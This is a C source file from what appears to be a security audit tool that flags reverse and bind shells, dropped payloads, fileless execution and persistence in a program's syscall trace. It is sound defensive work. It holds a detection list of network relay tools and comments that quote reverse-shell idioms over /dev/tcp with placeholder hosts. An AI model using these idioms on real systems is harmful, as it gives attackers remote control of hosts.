/*
 * shells.c — reverse and bind shells, shells that connect, scripts run from argv
 */
#include "backdoor.h"

/* ---- events ---------------------------------------------------------------- */

/* A shell, an interpreter or a relay: what hands a remote peer a command
 * line.  Shells and script runners are libdynaudit-sdk's classes. */
static bool is_shell_like(const char *path)
{
	static const char *const relays[] = {"busybox", "nc", "ncat", "netcat", "nc.openbsd",
					     "nc.traditional", "socat", "telnet", "irb", "jshell"};
	const char *base = da_prog_base_name(path);
	return da_prog_is_shell(base) || da_prog_is_script_runner(base) ||
	       name_in(base, relays, sizeof(relays) / sizeof(relays[0]), NULL, 0);
}

static bool stdio_unknown(const char *desc)
{
	return !desc || !desc[0] || strcmp(desc, "unknown") == 0;
}

/* How a shell's stdio reaches a network peer, or NULL when it does not.
 * *owner: the process holding the connection (the shell's or its parent);
 * *dup: the tracked socket on its stdio, when that is how we know. */
static const char *shell_link(struct proc *p, struct proc *parent, const struct da_event *ev,
			      struct proc **owner, const struct tracked_fd **dup)
{
	*owner = p;
	*dup = NULL;
	if (is_net_socket(ev->stdio[0]))
		return ev->stdio[0];
	if (is_net_socket(ev->stdio[1]))
		return ev->stdio[1];
	if (stdio_unknown(ev->stdio[0]) && stdio_unknown(ev->stdio[1]) && p) {
		if ((*dup = socket_on_stdio(p)) != NULL)
			return (*dup)->desc;
		/* an interpreter re-executing itself is normal, not a shell hand-off */
		if (p->connected && strcmp(p->exe, da_prog_base_name(ev->path)) != 0)
			return "connected in the same process";
	}
	/* pty.spawn / forkpty: the parent relays between its socket and the
	 * shell's terminal, so the shell's own stdio is a tty */
	*owner = parent;
	if (parent && (*dup = socket_on_stdio(parent)) != NULL)
		return (*dup)->desc;
	if (parent && parent->pty_master && parent->connected)
		return "a pseudo-terminal its parent relays to a connection";
	return NULL;
}

/* The peer of an inet stream socket description, or NULL:
 * "socket:inet/stream->127.0.0.1:4444" -> "127.0.0.1:4444". */
static const char *stream_peer(const char *desc)
{
	const char *arrow = is_net_socket(desc) ? strstr(desc, "/stream->") : NULL;
	return arrow && arrow[9] ? arrow + 9 : NULL;
}

static bool rs_reported(const struct backdoor *st, const char *dest)
{
	for (size_t i = 0; i < st->n_rs_dests; i++)
		if (strcmp(st->rs_dests[i], dest) == 0)
			return true;
	return false;
}

static void rs_note(struct backdoor *st, const char *dest)
{
	if (dest && !rs_reported(st, dest) && st->n_rs_dests < MAX_RS_DESTS)
		snprintf(st->rs_dests[st->n_rs_dests++], sizeof(st->rs_dests[0]), "%s", dest);
}

/* Returns whether it reported. */
static bool check_shell(struct backdoor *st, struct proc *p, const struct da_event *ev,
			const char *exe)
{
	struct proc *parent = p && p->ppid > 0 ? proc_find(st, p->ppid) : NULL;
	struct proc *owner;
	const struct tracked_fd *dup;
	const char *link = shell_link(p, parent, ev, &owner, &dup);
	if (!link)
		return false;
	bool accepted = dup ? dup->kind == FD_ACCEPTED
			    : (owner && owner->accept_text && !owner->connected);
	char res[64];
	outcome(ev, res, sizeof(res));
	const char *evidence[3] = {owner ? (accepted ? owner->accept_text : owner->connect_text) : NULL,
				   owner ? owner->dup_text : NULL, ev->text};
	emit(st, accepted ? "backdoor.bind_shell" : "backdoor.reverse_shell", DA_SEV_CRITICAL,
	     accepted ? "Bind shell" : "Reverse shell", ev->pid, ev->time_s, evidence, 3,
	     "Remove the code that hands a shell or interpreter to a network peer: this is remote control of the host",
	     "%s: %s gets its stdin/stdout from a network connection (%s)%s",
	     accepted ? "bind shell" : "reverse shell", exe, link, res);
	if (!accepted)
		rs_note(st, stream_peer(link) ? stream_peer(link) : (dup ? dup->desc : NULL));
	return true;
}

/* Whether a shell exec reads its commands from stdin: no -c string and no
 * script argument (`sh -i`, `sh`, `bash -s`), the shape of a shell handed
 * to a peer.  `sh -c CMD` (node's child_process, on socketpair stdio) is
 * not one. */
static bool shell_reads_stdin(const struct da_event *ev)
{
	for (int i = 1; ev->argv && i < ev->argc; i++) {
		const char *a = ev->argv[i];
		if (!a || strcmp(a, "--") == 0)
			break;
		if (a[0] != '-' && a[0] != '+')
			return false; /* a script */
		if (a[1] != '-' && strchr(a + 1, 'c'))
			return false;
	}
	return true;
}

/* A reverse shell whose peer did not answer (issue 13): the outbound
 * connect failed (or went nowhere), so the program put a local socket (a
 * socketpair, a unix or loopback socket it made) on the shell's stdio
 * instead.  An interactive shell whose stdin or stdout is any socket,
 * started by a process that had tried an inet peer outside allow_connect,
 * is the attempt.  Returns whether it reported. */
static bool check_local_socket_shell(struct backdoor *st, struct proc *p, const struct da_event *ev,
				     const char *exe)
{
	const char *base = da_prog_base_name(exe);
	if (!p || !p->tried[0] || !(da_prog_is_shell(base) || strcmp(base, "busybox") == 0) ||
	    !shell_reads_stdin(ev) || rs_reported(st, p->tried))
		return false;
	int fd = da_str_starts_with(ev->stdio[0], "socket:") ? 0
		 : da_str_starts_with(ev->stdio[1], "socket:") ? 1 : -1;
	if (fd < 0)
		return false;
	rs_note(st, p->tried);
	char res[64];
	outcome(ev, res, sizeof(res));
	const char *evidence[2] = {p->tried_text, ev->text};
	emit(st, "backdoor.reverse_shell", DA_SEV_HIGH, "Reverse shell attempt", ev->pid,
	     ev->time_s, evidence, 2,
	     "Remove the code that hands a shell a socket after connecting out: this is a reverse shell",
	     "reverse shell attempted: %s runs with its %s on a socket (%s) after the run tried to "
	     "reach %s; the peer did not answer here, on a real network it gets the shell%s",
	     exe, fd == 0 ? "stdin" : "stdout", ev->stdio[fd], p->tried, res);
	return true;
}

/* The process (p or an ancestor) that connected out to peer, or NULL: the
 * one that called connect, else (it has exited) one that holds the socket
 * by inheritance. */
static struct proc *connector_of(struct backdoor *st, struct proc *p, const char *peer)
{
	for (int pass = 0; pass < 2; pass++) {
		struct proc *q = p;
		for (int level = 0; q && level <= 2 * ANCESTOR_REACH; level++) {
			for (size_t i = 0; pass == 0 && i < q->n_peers; i++)
				if (strcmp(q->peers[i], peer) == 0)
					return q;
			for (size_t i = 0; pass == 1 && i < q->n_fds; i++)
				if (q->fds[i].kind == FD_CONNECTED && strcmp(q->fds[i].desc, peer) == 0)
					return q;
			q = q->ppid > 0 && q->ppid != q->pid ? proc_find(st, q->ppid) : NULL;
		}
	}
	return NULL;
}

/* Any program whose stdin or stdout is a TCP connection the run opened
 * itself: `exec 5<>/dev/tcp/HOST/PORT; cmd >&5` turns the audited shell
 * into the remote end's command runner without exec'ing a new shell.
 * Accepted connections (an inetd-style server handing a client to a
 * handler) and unix sockets are not outbound and do not count. */
static void check_stdio_socket(struct backdoor *st, struct proc *p, const struct da_event *ev,
			       const char *exe)
{
	if (!p)
		return;
	const char *peer = NULL;
	struct proc *owner = NULL;
	int fd = 0;
	for (; fd <= 1 && !owner; fd++) {
		peer = stream_peer(ev->stdio[fd]);
		owner = peer ? connector_of(st, p, peer) : NULL;
	}
	fd--;
	if (!owner && stdio_unknown(ev->stdio[0]) && stdio_unknown(ev->stdio[1])) {
		/* recorded without fd descriptions: our own dup2 tracking */
		for (fd = 0; fd <= 1 && !owner; fd++) {
			const struct tracked_fd *t = fd_find(p, fd);
			if (t && t->kind == FD_CONNECTED) {
				peer = t->desc;
				owner = p;
			}
		}
		fd--;
	}
	if (!owner || !peer || allowed(st, peer) || rs_reported(st, peer))
		return;
	rs_note(st, peer);
	char res[64];
	outcome(ev, res, sizeof(res));
	/* the first connect of the owner, when it is the one to this peer */
	const char *port = strrchr(peer, ':');
	const char *ctext = owner->connect_text && port && strstr(owner->connect_text, port + 1)
				    ? owner->connect_text
				    : NULL;
	const char *evidence[3] = {ctext, owner->dup_text, ev->text};
	emit(st, "backdoor.reverse_shell", DA_SEV_CRITICAL, "Reverse shell", ev->pid, ev->time_s,
	     evidence, 3,
	     "Remove the code that runs commands with their input or output on an outgoing connection: this is remote control of the host",
	     "reverse shell: %s runs with its %s on the connection to %s that %s (pid %d) opened%s",
	     exe, fd == 0 ? "stdin" : "stdout", peer, owner->exe[0] ? owner->exe : "the run",
	     owner->pid, res);
}

/* True when argument a of the runner base makes it take its code from the
 * command line or stdin (python -c, perl -e, sh -c, node -e, php -r ...). */
static bool code_from_cmdline(const char *base, const char *a)
{
	bool long_opt = a[1] == '-';
	if (strcmp(a, "-") == 0)
		return true;
	if (da_str_starts_with(base, "python"))
		return !long_opt && (strchr(a + 1, 'c') || strchr(a + 1, 'm'));
	if (da_str_starts_with(base, "perl") || da_str_starts_with(base, "ruby"))
		return !long_opt && (strchr(a + 1, 'e') || strchr(a + 1, 'E'));
	if (strcmp(base, "node") == 0 || strcmp(base, "nodejs") == 0)
		return strcmp(a, "--eval") == 0 || strcmp(a, "--print") == 0 ||
		       (!long_opt && (strchr(a + 1, 'e') || strchr(a + 1, 'p')));
	if (da_str_starts_with(base, "php"))
		return strcmp(a, "-r") == 0 || strcmp(a, "-R") == 0 || strcmp(a, "-B") == 0 ||
		       strcmp(a, "-E") == 0;
	if (da_str_starts_with(base, "lua"))
		return strcmp(a, "-e") == 0;
	/* shells */
	return !long_opt && a[0] == '-' && (strchr(a + 1, 'c') || strchr(a + 1, 's'));
}

/* True when option a of the runner base takes the next argument as its value. */
static bool option_takes_value(const char *base, const char *a)
{
	static const char *const loader[] = {"--library-path", "--preload", "--audit", "--argv0",
					     "--inhibit-rpath", "--glibc-hwcaps-prepend",
					     "--glibc-hwcaps-mask", NULL};
	static const char *const python[] = {"-W", "-X", "--check-hash-based-pycs", NULL};
	static const char *const ruby[] = {"-I", "-r", NULL};
	static const char *const node[] = {"-r", "--require", "--import", "--loader",
					   "--experimental-loader", "-C", "--conditions", NULL};
	static const char *const php[] = {"-d", "-c", "-z", "-t", "-S", NULL};
	static const char *const lua[] = {"-l", NULL};
	static const char *const shell[] = {"-o", "+o", "-O", "+O", "--rcfile", "--init-file", NULL};
	const char *const *list = is_loader(base)                 ? loader
				  : da_str_starts_with(base, "python")   ? python
				  : da_str_starts_with(base, "ruby")     ? ruby
				  : da_str_starts_with(base, "perl")     ? NULL
				  : strcmp(base, "node") == 0 || strcmp(base, "nodejs") == 0 ? node
				  : da_str_starts_with(base, "php")      ? php
				  : da_str_starts_with(base, "lua")      ? lua
								  : shell;
	for (; list && *list; list++)
		if (strcmp(a, *list) == 0)
			return true;
	return false;
}

/* The script a runner is asked to run (the program, for ld.so): its first
 * argument that is neither an option nor an option's value.  NULL when the
 * code comes from the command line or stdin. */
static const char *script_arg(const char *base, int argc, const char *const *argv)
{
	bool shell = !is_loader(base) && !da_str_starts_with(base, "python") && !da_str_starts_with(base, "perl") &&
		     !da_str_starts_with(base, "ruby") && !da_str_starts_with(base, "php") &&
		     !da_str_starts_with(base, "lua") && strcmp(base, "node") != 0 &&
		     strcmp(base, "nodejs") != 0;
	for (int i = 1; i < argc; i++) {
		const char *a = argv[i];
		if (!a || !a[0])
			return NULL;
		if (strcmp(a, "--") == 0)
			return i + 1 < argc ? argv[i + 1] : NULL;
		if (a[0] != '-' && !(shell && a[0] == '+'))
			return a;
		if (!is_loader(base) && code_from_cmdline(base, a))
			return NULL;
		if (da_str_starts_with(base, "php") && strcmp(a, "-f") == 0)
			return i + 1 < argc ? argv[i + 1] : NULL;
		if (option_takes_value(base, a))
			i++;
	}
	return NULL;
}

/* `python3 /tmp/.x.py`, `sh /tmp/.u.sh`, `ld-linux-x86-64.so.2 ./build.dat`:
 * the program exec'd is a clean system binary, the code is its argument. */
static void check_script_arg(struct backdoor *st, struct proc *p, const struct da_event *ev,
			     const char *exe)
{
	const char *base = da_prog_base_name(exe);
	bool loader = is_loader(base);
	if ((!loader && !da_prog_is_script_runner(base)) || !ev->argv || ev->argc < 2)
		return;
	if (ev->err == ENOENT || ev->err == ENOTDIR)
		return; /* a PATH search miss: the runner is not there, nothing ran */
	const char *arg = script_arg(base, ev->argc, ev->argv);
	const char *cwd = p && p->cwd ? p->cwd : st->workdir;
	char path[4096];
	if (!arg || (arg[0] != '/' && cwd[0] != '/') || !da_path_normalize(arg, cwd, path, sizeof(path)))
		return;
	char res[64], how[96];
	outcome(ev, res, sizeof(res));
	if (loader)
		snprintf(how, sizeof(how), "through the dynamic loader %s", base);
	else
		snprintf(how, sizeof(how), "with %s", base);
	const char *rec = "Remove the code that writes scripts or programs and then runs them";
	if (p)
		replace_text(&p->script, path); /* its read of the script is this exec */
	const struct dropped *d = dropped_find(st, path);
	const struct work_write *w = loader && !d ? work_find(st, path) : NULL;
	if (d && !d->setup) {
		const char *evidence[2] = {d->text, ev->text};
		emit(st, "backdoor.dropped_payload", DA_SEV_CRITICAL, "Dropped payload executed",
		     ev->pid, ev->time_s, evidence, 2, rec,
		     "dropped payload: runs %s, which it wrote, %s%s", path, how, res);
	} else if (w) {
		/* a build output is written by the toolchain, never by a script */
		const char *evidence[2] = {w->text, ev->text};
		emit(st, "backdoor.dropped_payload", DA_SEV_HIGH, "Dropped payload executed",
		     ev->pid, ev->time_s, evidence, 2, rec,
		     "dropped payload: runs %s %s, a file %s wrote in the workdir during the run%s",
		     path, how, w->writer[0] ? w->writer : "the run", res);
	} else if (loader && !d && in_temp_dir(path) && !in_workdir(st, path)) {
		const char *evidence[1] = {ev->text};
		emit(st, "backdoor.dropped_payload", DA_SEV_HIGH, "Executes from /tmp", ev->pid,
		     ev->time_s, evidence, 1, rec,
		     "executes %s from a writable temporary directory %s%s", path, how, res);
	}
}

void on_exec(struct backdoor *st, const struct da_event *ev)
{
	struct proc *p = proc_get(st, ev->pid, ev->ppid);
	const char *exe = ev->path ? ev->path : (ev->argc > 0 && ev->argv ? ev->argv[0] : NULL);
	char res[64];
	outcome(ev, res, sizeof(res));
	const char *rec = "Remove the code that writes and runs hidden or temporary executables";

	bool shell_reported = exe && is_shell_like(exe) && check_shell(st, p, ev, exe);
	if (exe && !shell_reported)
		shell_reported = check_local_socket_shell(st, p, ev, exe);
	if (exe && !shell_reported)
		check_stdio_socket(st, p, ev, exe);
	if (exe)
		check_script_arg(st, p, ev, exe);
	if (p && exe && ev->err == 0)
		snprintf(p->exe, sizeof(p->exe), "%s", da_prog_base_name(exe));
	if (is_fileless(ev, exe)) {
		const char *evidence[1] = {ev->text};
		emit(st, "backdoor.dropped_payload", DA_SEV_CRITICAL, "Fileless execution", ev->pid,
		     ev->time_s, evidence, 1, rec,
		     "dropped payload: executes an in-memory file (%s)%s", exe ? exe : "memfd",
		     res);
	} else if (exe) {
		const struct dropped *d = dropped_find(st, exe);
		if (d && d->setup) {
			/* built or installed by target.setup: expected */
		} else if (d) {
			const char *evidence[2] = {d->text, ev->text};
			emit(st, "backdoor.dropped_payload", DA_SEV_CRITICAL,
			     "Dropped payload executed", ev->pid, ev->time_s, evidence, 2, rec,
			     "dropped payload: executes %s, which it wrote%s", exe, res);
		} else if (in_temp_dir(exe) && !in_workdir(st, exe)) {
			const char *evidence[1] = {ev->text};
			emit(st, "backdoor.dropped_payload", DA_SEV_HIGH, "Executes from /tmp",
			     ev->pid, ev->time_s, evidence, 1, rec,
			     "executes %s from a writable temporary directory%s", exe, res);
		}
	}
	/* scheduling tools plant persistence without touching files themselves */
	const char *base = da_prog_base_name(exe);
	bool lists_only = false, enables = false;
	for (int i = 1; ev->argv && i < ev->argc; i++) {
		if (ev->argv[i] && (strcmp(ev->argv[i], "-l") == 0 || strcmp(ev->argv[i], "-r") == 0))
			lists_only = true;
		if (ev->argv[i] && (strcmp(ev->argv[i], "enable") == 0 || strcmp(ev->argv[i], "link") == 0))
			enables = true;
	}
	if ((strcmp(base, "crontab") == 0 && !lists_only) || strcmp(base, "at") == 0 ||
	    strcmp(base, "batch") == 0 || (strcmp(base, "systemctl") == 0 && enables)) {
		const char *evidence[1] = {ev->text};
		emit(st, "backdoor.persistence", DA_SEV_HIGH, "Persistence planted", ev->pid,
		     ev->time_s, evidence, 1,
		     "Remove the code that schedules jobs or services; a submission must leave no trace after it exits",
		     "plants persistence: runs %s%s", base, res);
	}
}

/* dup2(3, 0) / dup3(3<socket:[...]>, 1, 0): fd numbers from the event or text. */
static bool parse_dup(const struct da_event *ev, int *from, int *to)
{
	if (ev->fd >= 0 && ev->target_fd >= 0) {
		*from = ev->fd;
		*to = ev->target_fd;
		return true;
	}
	const char *open = ev->text ? strchr(ev->text, '(') : NULL;
	if (!open)
		return false;
	char *end;
	long a = strtol(open + 1, &end, 10);
	if (end == open + 1)
		return false;
	const char *comma = strchr(end, ',');
	if (!comma)
		return false;
	long b = strtol(comma + 1, &end, 10);
	if (end == comma + 1 || a < 0 || b < 0 || a > 65535 || b > 65535)
		return false;
	*from = (int)a;
	*to = (int)b;
	return true;
}

void on_other(struct backdoor *st, const struct da_event *ev)
{
	if (!ev->syscall || ev->err != 0 || ev->result < 0)
		return;
	bool is_dup = strcmp(ev->syscall, "dup2") == 0 || strcmp(ev->syscall, "dup3") == 0;
	bool is_close = strcmp(ev->syscall, "close") == 0;
	if (!is_dup && !is_close)
		return;
	struct proc *p = proc_find(st, ev->pid);
	if (!p)
		return; /* nothing tracked: nothing to move or forget */
	if (is_close) {
		int fd = ev->fd;
		if (fd < 0 && ev->text) {
			const char *open = strchr(ev->text, '(');
			fd = open ? (int)strtol(open + 1, NULL, 10) : -1;
		}
		fd_forget(p, fd);
		return;
	}
	int from, to;
	if (!parse_dup(ev, &from, &to) || from == to)
		return;
	const struct tracked_fd *src = fd_find(p, from);
	if (!src) {
		fd_forget(p, to); /* overwritten by something we do not track */
		return;
	}
	struct tracked_fd copy = *src;
	fd_track(p, to, copy.kind, copy.desc);
	if (to <= 2 && (copy.kind == FD_CONNECTED || copy.kind == FD_ACCEPTED) && !p->dup_text)
		p->dup_text = copy_text(ev->text);
}

/* A POSIX shell opens an inet socket itself only for a /dev/tcp or
 * /dev/udp redirection (`bash -i >& /dev/tcp/H/P 0>&1`): that is the
 * reverse-shell idiom, attempted whether or not the peer answered.  Other
 * programs a shell runs have their own exec and are judged there. */
static void report_shell_connect(struct backdoor *st, const char *exe, const char *dest, int err,
				 bool ok, int pid, double t, const char *text)
{
	char res[96];
	if (ok)
		snprintf(res, sizeof(res), "it reached its peer");
	else
		snprintf(res, sizeof(res), "failed: %s (nobody answered, so no shell was handed over)",
			 strerrorname_np(err) ? strerrorname_np(err) : "error");
	rs_note(st, dest);
	const char *evidence[1] = {text};
	emit(st, "backdoor.reverse_shell", DA_SEV_CRITICAL, "Reverse shell attempt", pid, t,
	     evidence, text ? 1 : 0,
	     "Remove the connection from the shell code and find out who was meant to receive the shell",
	     "reverse shell attempted: %s opened a connection to %s itself, the /dev/tcp redirection "
	     "of `bash -i >& /dev/tcp/HOST/PORT`; %s",
	     exe, dest, res);
}

/* A POSIX shell opens an inet socket itself only for a /dev/tcp or
 * /dev/udp redirection (`bash -i >& /dev/tcp/H/P 0>&1`): that is the
 * reverse-shell idiom, attempted whether or not the peer answered.  Other
 * programs a shell runs have their own exec and are judged there. */
static void check_shell_connect(struct backdoor *st, struct proc *p, const struct da_event *ev, bool ok)
{
	if (!p->exe[0] || !(da_prog_is_shell(p->exe) || strcmp(p->exe, "busybox") == 0) ||
	    !ev->addr || allowed(st, ev->addr) || rs_reported(st, ev->addr))
		return;
	if (!ok) {
		report_shell_connect(st, p->exe, ev->addr, ev->err, false, ev->pid, ev->time_s, ev->text);
		return;
	}
	for (size_t i = 0; i < st->n_shell_connects; i++)
		if (strcmp(st->shell_connects[i].dest, ev->addr) == 0)
			return;
	if (st->n_shell_connects == MAX_RS_DESTS)
		return;
	struct shell_connect *c = &st->shell_connects[st->n_shell_connects++];
	snprintf(c->dest, sizeof(c->dest), "%s", ev->addr);
	snprintf(c->exe, sizeof(c->exe), "%s", p->exe);
	c->text = copy_text(ev->text);
	c->pid = ev->pid;
	c->t = ev->time_s;
}

/* At the end: a shell's connection that no exec on it was reported for. */
void report_shell_connects(struct backdoor *st)
{
	for (size_t i = 0; i < st->n_shell_connects; i++) {
		struct shell_connect *c = &st->shell_connects[i];
		if (!rs_reported(st, c->dest))
			report_shell_connect(st, c->exe, c->dest, 0, true, c->pid, c->t, c->text);
		free(c->text);
		c->text = NULL;
	}
	st->n_shell_connects = 0;
}

void on_net(struct backdoor *st, const struct da_event *ev)
{
	struct proc *p = proc_get(st, ev->pid, ev->ppid);
	bool ok = ev->err == 0 || ev->err == EINPROGRESS;
	switch (ev->kind) {
	case DA_EV_NET_CONNECT:
		note_contact(st, ev, false);
		if (!p || !(ev->family == AF_INET || ev->family == AF_INET6 || is_net_socket(ev->fd_desc)))
			break;
		p->connected = true;
		if (!p->connect_text)
			p->connect_text = copy_text(ev->text);
		if (!p->tried[0] && ev->addr && !is_loopback(ev->addr) && !allowed(st, ev->addr)) {
			snprintf(p->tried, sizeof(p->tried), "%s", ev->addr);
			p->tried_text = copy_text(ev->text);
		}
		check_shell_connect(st, p, ev, ok);
		if (ok) {
			fd_track(p, ev->fd, FD_CONNECTED, ev->addr);
			note_peer(p, ev->addr);
		}
		check_exfiltration(st, p, ev);
		break;
	case DA_EV_NET_ACCEPT:
		if (!p || ev->err != 0 || ev->target_fd < 0)
			break;
		if (ev->family == AF_UNIX || da_str_starts_with(ev->fd_desc, "socket:unix"))
			break;
		if (!p->accept_text)
			p->accept_text = copy_text(ev->text);
		fd_track(p, ev->target_fd, FD_ACCEPTED, ev->addr);
		break;
	case DA_EV_NET_SEND:
		if (is_explicit_send(ev))
			note_contact(st, ev, true);
		if (p)
			check_exfiltration(st, p, ev);
		break;
	case DA_EV_NET_LISTEN:
	case DA_EV_NET_BIND:
		if (ev->err == 0 && ev->family != AF_UNIX && !da_str_starts_with(ev->fd_desc, "socket:unix"))
			note_own_port(st, ev->port);
		break;
	default: break;
	}
	note_own_port(st, local_port(ev->fd_desc));
}

